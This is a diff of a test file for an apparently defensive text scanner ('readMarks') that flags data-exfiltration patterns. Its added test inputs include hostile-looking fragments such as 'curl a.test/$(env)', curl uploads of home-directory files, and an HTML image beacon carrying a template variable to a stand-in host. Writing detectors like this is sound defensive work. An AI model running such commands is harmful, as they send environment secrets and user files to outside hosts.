@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { MARKS } from './read-marks.ts';
+import { MARKS, readMarks } from './read-marks.ts';
 
 /** At least one for each alternative that a mark begins with. */
 const SAMPLES = [
@@ -25,11 +25,34 @@ const SAMPLES = [
   "Emma's address, Mark’s bank account",
 ];
 
+const far = (length: number): string => 'a'.repeat(length);
+
 describe('marks', () => {
+  it.each([
+    ['curl a.test/$(env)', [[0, 17]]],
+    [`curl ${far(150)} $(env)`, [[0, 161]]],
+    [`curl ${far(170)} $(env)`, []],
+    ['curl a\n$(env)', []],
+    ['xcurl $(env) curl b `cat c`', [[13, 25]]],
+    [`curl ${far(300)} curl -d @~/x and curl -T ~/y`, [[306, 332]]],
+    [
+      `curl $(env ${far(200)} curl $(env `,
+      [
+        [0, 10],
+        [212, 222],
+      ],
+    ],
+    ['<img src="https://a.test/?q=${x}">', [[0, 30]]],
+    [`<img src="https://a.test/${far(250)}\${x}`, []],
+  ])('%s: %j', (text, places) => {
+    const found = readMarks(text).filter(({ family, weight }) => family === 'exfiltrate' && weight >= 2);
+    expect(found.map(({ start, end }) => [start, end])).toEqual(places);
+  });
+
   it.each(MARKS.map(({ pattern, needs }) => [pattern, needs] as const))(
     '%s is searched for where it stands',
     (pattern, needs) => {
-      const found = SAMPLES.flatMap((sample) => [...sample.matchAll(pattern)].map(([match]) => match));
+      const found = SAMPLES.flatMap((sample) => [...sample.matchAll(new RegExp(pattern))].map(([match]) => match));
       expect(found).not.toEqual([]);
       expect(found.filter((match) => !needs.some((sign) => match.includes(sign)))).toEqual([]);
     },
